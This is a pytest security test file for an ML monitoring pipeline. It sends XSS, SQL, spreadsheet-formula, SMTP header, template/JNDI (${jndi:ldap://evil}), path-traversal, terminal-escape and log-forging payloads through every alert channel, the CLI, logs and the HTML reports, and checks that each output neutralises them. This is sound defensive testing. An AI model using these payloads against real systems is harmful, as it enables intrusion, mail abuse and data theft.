"""Names and values that are attacks, through a whole deployment: they are shown, and nowhere do anything."""

import json
import logging
import re
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from functools import cache
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import dagster as dg
import numpy as np
import pandas as pd
import pyarrow as pa
import pytest
from mlflow import MlflowClient
from playwright.sync_api import Browser, Dialog, sync_playwright
from typer.testing import CliRunner

from monitoring_pipeline.cli import app
from monitoring_pipeline.publish.gate_report import plain
from monitoring_pipeline.stores.mlflow_reference import log_reference
from monitoring_pipeline.workflow.exporter import Exporter
from monitoring_pipeline.workflow.model_assets import materialise_references
from monitoring_pipeline_tests.binaries import require
from monitoring_pipeline_tests.deployments import Deployment, deploying
from monitoring_pipeline_tests.exposition import assert_valid, samples
from monitoring_pipeline_tests.sinks import HttpSink, SmtpSink, http_sink, like_pagerduty, like_slack, ok, smtp_sink
from monitoring_pipeline_tests.traffic import START, hour

pytestmark = [pytest.mark.slow, pytest.mark.browser]

MARKUP = (
    "<script>window.harmed=1;alert(1)</script>",
    '"><img src=x onerror="window.harmed=2">',
    "<svg/onload=window.harmed=3>",
    "</title></style></script><iframe srcdoc='<script>top.harmed=4</script>'>",
    "[click](javascript:window.harmed=5)",
    "javascript:window.harmed=6",
)
TEXT = (
    "'; DROP TABLE incidents; --",
    '"; DROP TABLE outbox; --',
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)",
    "a\r\nBcc: everybody@evil.example\r\n\r\n<b>",
    "\x1b]0;owned\x07\x1b[2J\x1b[31m",
    "line\nINFO forged line",
    "../../../../etc/passwd",
    "..\\..\\windows",
    'quo"te\\back\nslash{}=,',
    "<!channel> <@U01234567> <https://evil.example|click>",
    "{{ 7*7 }} {% raw %} ${jndi:ldap://evil} #{7*7} $__all ${__user.email}",
    "%s %(asctime)s %n {0} {self.__class__}",
    "\u202edlrow\u2066 \u200b\ufeff",
    "nul\x00byte",
    "*bold* _it_ ~x~ `code` | table |\n# head",
)
ATTACKS = (*MARKUP, *TEXT)
MODEL = "<img src=x onerror=window.harmed=7> {{7*7}} '"
"""A registry takes no slash, colon, or quote of both kinds."""

CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\u200b\u202a-\u202e\u2066-\u2069\ufeff]")
"""What steers a terminal, or hides text from whoever reads it."""

NUMERIC, CATEGORICAL = ATTACKS[::3], ATTACKS[1::3]
FEATURES = [*NUMERIC, *CATEGORICAL]


def rows(hours: list[datetime], *, seed: int, shift: float) -> pd.DataFrame:
    """Return predictions whose columns are called by attacks and hold attacks."""
    generator = np.random.default_rng(seed)
    count = 60 * len(hours)
    columns: dict[str, Any] = {name: generator.normal(50 + shift, 10, count) for name in NUMERIC}
    mix = np.arange(1, len(ATTACKS) + 1.0)[:: -1 if shift else 1]
    columns |= {name: generator.choice(ATTACKS, count, p=mix / mix.sum()) for name in CATEGORICAL}
    score = generator.random(count)
    return pd.DataFrame(
        columns
        | {
            "prediction_id": [f"{seed} {number} {ATTACKS[number % len(ATTACKS)]}" for number in range(count)],
            "predicted_at": [hours[number // 60] + timedelta(minutes=number % 60) for number in range(count)],
            "model_version": "1",
            "score": score,
            "prediction": (score > 0.5).astype(int),
            "actual": (generator.random(count) < score).astype(int),
        }
    )


def document(sinks: dict[str, HttpSink], mail: SmtpSink) -> dict[str, Any]:
    told = ["slack", "pagerduty", "email", "webhook", "alertmanager", "console"]
    address = {"host": "127.0.0.1", "port": mail.port, "security": "none", "sender": "ml@example.com"}
    rule = {"condition": {"metric": "drift.psi", "window": "4h", "level": "warning"}, "for": 1, "resolve_after": 2}
    return {
        "model": "hostile",
        "registered_model": MODEL,
        "description": " ".join(ATTACKS),
        "features": {"numeric": list(NUMERIC), "categorical": list(CATEGORICAL)},
        "segments": {"columns": [CATEGORICAL[0]]},
        "rules": [{"name": "feature_drift", "runbook": "https://runbooks.example/x", **rule}],
        "notifications": {
            "slack": {"channel": "#ml", "base_url": f"{sinks['slack'].url}/api/"},
            "pagerduty": {"url": f"{sinks['pagerduty'].url}/v2/enqueue"},
            "email": address | {"recipients": ["oncall@example.com"]},
            "webhook": {"url": f"{sinks['webhook'].url}/in"},
            "alertmanager": {"url": sinks["alertmanager"].url},
            "routes": dict.fromkeys(("info", "warning", "critical"), told),
        },
    }


@dataclass
class Attacked:
    """A deployment that met attacks everywhere, what it wrote, and what reached its channels."""

    deployment: Deployment
    sinks: dict[str, HttpSink]
    mail: SmtpSink
    lines: list[str] = field(default_factory=list)
    results: list[dg.ExecuteInProcessResult] = field(default_factory=list)


@pytest.fixture(scope="module")
def attacked(template: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attacked]:
    home = tmp_path_factory.mktemp("attacked") / "home"
    answers = {"slack": like_slack, "pagerduty": like_pagerduty, "webhook": ok, "alertmanager": ok}
    with pytest.MonkeyPatch.context() as patch, deploying(template, home, patch) as made, ExitStack() as stack:
        for name, value in {
            "SLACK_BOT_TOKEN": "xoxb-1",
            "PAGERDUTY_ROUTING_KEY": "k" * 32,
            "MONITORING_WEBHOOK_SECRET": "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw",
        }.items():
            patch.setenv(name, value)
        sinks = {name: stack.enter_context(http_sink(answer)) for name, answer in answers.items()}
        found = Attacked(made, sinks, stack.enter_context(smtp_sink()))
        logging.disable(logging.NOTSET)
        listening = _Lines(found.lines)
        logging.getLogger("monitoring_pipeline").addHandler(listening)
        _live(found)
        yield found
        logging.getLogger("monitoring_pipeline").removeHandler(listening)
        logging.disable(logging.WARNING)


class _Lines(logging.Handler):
    def __init__(self, lines: list[str]) -> None:
        super().__init__(logging.DEBUG)
        self.lines = lines

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(record.getMessage())


def _live(attacked: Attacked) -> None:
    """Register the model, serve six hours of which the last have drifted, and let everybody be told."""
    made = attacked.deployment
    made.watch(document(attacked.sinks, attacked.mail))
    uri = made.monitoring.deployment.tracking_uri
    client = MlflowClient(uri, uri)
    (experiment,) = (each for each in client.search_experiments() if each.name == "churn")
    run = client.create_run(experiment.experiment_id)
    client.create_registered_model(MODEL)
    client.create_model_version(MODEL, source=f"{run.info.artifact_uri}/model", run_id=run.info.run_id)
    before = [START - timedelta(hours=number) for number in range(48, 0, -1)]
    roles: dict[str, Any] = {"time": "predicted_at", "score": "score", "prediction": "prediction", "label": "actual"}
    reference = rows(before, seed=1, shift=0)
    log_reference(reference, model_name=MODEL, version="1", features=FEATURES, tracking_uri=uri, **roles)
    client.set_registered_model_alias(MODEL, "champion", "1")
    materialise_references(made.monitoring, made.monitor)

    served = rows([hour(number) for number in range(24)], seed=2, shift=30)
    made.log_table(pa.Table.from_pandas(served.drop(columns="actual"), preserve_index=False), model=MODEL)
    made.label(served, model=MODEL)
    made.set_clock(hour(25))
    attacked.results.append(made.process(0, 23, model="hostile"))
    attacked.results.append(made.run("hostile__daily", partition_key=f"{START:%Y-%m-%d}"))
    attacked.results += made.pass_on("hostile__verdict_alerts")
    for attack in ATTACKS:
        said = f"x {attack}".replace("\x00", "")  # which no command line can hold
        taken = command("note", "--by", said, "--text", said, "--format", "json", "--", _incident(made))
        assert "status" in taken, taken
    command("deliver")


def _incident(made: Deployment) -> str:
    return made.monitoring.database.incidents(MODEL)[0].id


def command(*arguments: str) -> str:
    result = CliRunner().invoke(app, list(arguments))
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exc_info
    return str(result.output)


class Elements(HTMLParser):
    """What a browser would build of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def test_every_hour_is_computed_and_the_drift_is_noticed(attacked: Attacked) -> None:
    assert all(result.success for result in attacked.results)
    signals = attacked.deployment.store.read_signals("drift", MODEL, hour(23), hour(24))[hour(23)]
    assert set(FEATURES) <= {each.column for each in signals if each.value is not None}
    assert attacked.deployment.monitoring.database.incidents(MODEL)


def test_every_channel_was_told_and_none_was_steered(attacked: Attacked) -> None:
    for name, sink in attacked.sinks.items():
        assert sink.received, name
        for posted in sink.received:
            assert not CONTROL.search(_texts(posted.json)), f"{name}: invisible characters"
            assert not CONTROL.search(posted.path + str(posted.headers))
    said = "".join(_texts(posted.json) for posted in attacked.sinks["slack"].received)
    assert "&lt;" in said
    assert not re.search(r"<(!channel|@U01234567|https://evil)", said)
    assert not re.search(r"<(script|img|svg|iframe)", said)


def _texts(value: Any) -> str:
    if isinstance(value, dict):
        return "\n".join(_texts(each) for each in (*value.keys(), *value.values()))
    return "\n".join(map(_texts, value)) if isinstance(value, list) else str(value)


def test_no_mail_has_a_header_a_recipient_or_an_element_of_an_attack(attacked: Attacked) -> None:
    assert attacked.mail.mails
    for mail in attacked.mail.mails:
        assert mail.recipients == ("oncall@example.com",)
        assert "Bcc" not in mail.message
        assert not CONTROL.search(" ".join(mail.message.values()).replace("\r\n ", " "))
        elements = Elements(mail.part("html")).found
        assert {tag for tag, _ in elements}.isdisjoint({"script", "img", "svg", "iframe", "style"})
        assert not [name for _, attributes in elements for name in attributes if name.startswith("on")]
        links = [str(attributes["href"]) for _, attributes in elements if "href" in attributes]
        assert all(
            link.startswith(("https://runbooks.example", "http://127.0.0.1", "http://localhost")) for link in links
        )


def test_prometheus_reads_every_name_back_and_nothing_else(attacked: Attacked) -> None:
    places = attacked.deployment.monitoring.deployment
    exporter = Exporter(places, {MODEL: Path(__file__)}, clock=lambda: datetime.now(UTC))
    exporter.ask_registry()
    page = exporter.page()[0].decode()
    assert_valid(page)
    labels = [dict(key[1]) for key in samples(page)]
    assert {each["feature"] for each in labels if "feature" in each} >= set(FEATURES)
    assert {each["model"] for each in labels if "model" in each} == {MODEL}


def test_no_file_was_written_under_a_name_that_leads_elsewhere(attacked: Attacked) -> None:
    home = attacked.deployment.home
    inside = {path.resolve() for path in home.rglob("*")}
    assert all(path.is_relative_to(home.resolve()) for path in inside)
    models = {path.name for path in (home / "data").glob("*/model=*")}
    assert {name for name in models if "%3Cimg" not in name} <= {"model=churn", "model=hostile.html"}
    assert not [name for name in models if re.search(r"[<>'\s\u202e]", name)]


def test_the_tables_of_the_state_are_still_there(attacked: Attacked) -> None:
    database = attacked.deployment.monitoring.database
    events = database.incident_events(_incident(attacked.deployment))
    assert len(database.notifications()) > len(attacked.sinks)
    assert "DROP TABLE" in "".join(map(str, events)), "a note is kept as it was written"


@pytest.mark.parametrize(
    "arguments",
    [
        *(("status",), ("incidents",), ("outbox",), ("doctor",), ("report",), ("check-config",), ("silences",)),
        *(("incident", "hostile"), ("post-mortem", "hostile"), ("ack", "hostile", "--by", "\x1b[2J<b>")),
    ],
)
def test_no_command_steers_the_terminal(attacked: Attacked, arguments: tuple[str, ...]) -> None:
    named = tuple(_incident(attacked.deployment) if each == "hostile" else each for each in arguments)
    for form in ((), ("--format", "json")):
        said = command(*named, *form)
        assert not CONTROL.search(said), (named, CONTROL.search(said))
        assert "\nINFO forged line" not in said
        if form and said.lstrip()[:1] in "[{":
            json.loads(said)


def test_no_log_line_is_forged(attacked: Attacked) -> None:
    assert not [line for line in attacked.lines if CONTROL.search(line) or "\nINFO forged" in line]


def test_what_dagster_shows_as_markdown_holds_no_markup_of_an_attack(attacked: Attacked) -> None:
    shown = [
        value.value
        for result in attacked.results
        for event in result.all_events
        if event.is_step_materialization
        for value in event.step_materialization_data.materialization.metadata.values()
        if isinstance(value, dg.MarkdownMetadataValue)
    ]
    assert shown
    for text in shown:
        assert not re.search(r"<(script|img|svg|iframe)|\]\(javascript:", text or "")


@cache
def pages(home: Path) -> list[Path]:
    return sorted(home.rglob("*.html"))


def test_no_page_runs_anything_in_a_browser(attacked: Attacked) -> None:
    command("report")
    found = pages(attacked.deployment.home)
    assert len(found) > 2, "the health page, its index, and Evidently's report"
    chromium = require("chromium", "/usr/bin/chromium")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(chromium), headless=True, args=["--no-sandbox"])
        try:
            for path in found:
                assert _opened(browser, path) == {"harmed": None, "dialogs": [], "asked": [], "complaints": []}, path
        finally:
            browser.close()


def _opened(browser: Browser, path: Path) -> dict[str, Any]:
    page = browser.new_page()
    dialogs, asked, complaints = list[str](), list[str](), list[str]()

    def dismiss(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismiss)
    page.on("request", lambda request: asked.append(request.url))
    page.on("console", lambda message: complaints.append(message.text) if "harmed" in message.text else None)
    page.goto(path.as_uri())
    page.wait_for_load_state("networkidle")
    for link in page.locator("a[href^='javascript']").all():
        link.click()
    harmed = page.evaluate("window.harmed")
    page.close()
    own = ("data:", "blob:", path.as_uri())
    return {
        "harmed": harmed,
        "dialogs": dialogs,
        "asked": [url for url in asked if not url.startswith(own)],
        "complaints": complaints,
    }


@pytest.mark.parametrize("attack", ATTACKS)
def test_markdown_shows_an_attack_and_is_none(attack: str) -> None:
    text = plain(attack)
    assert "\n" not in text
    assert not re.search(r"(?<!\\)[<>]", text)
    assert not re.search(r"(?<!\\)\]\(", text)
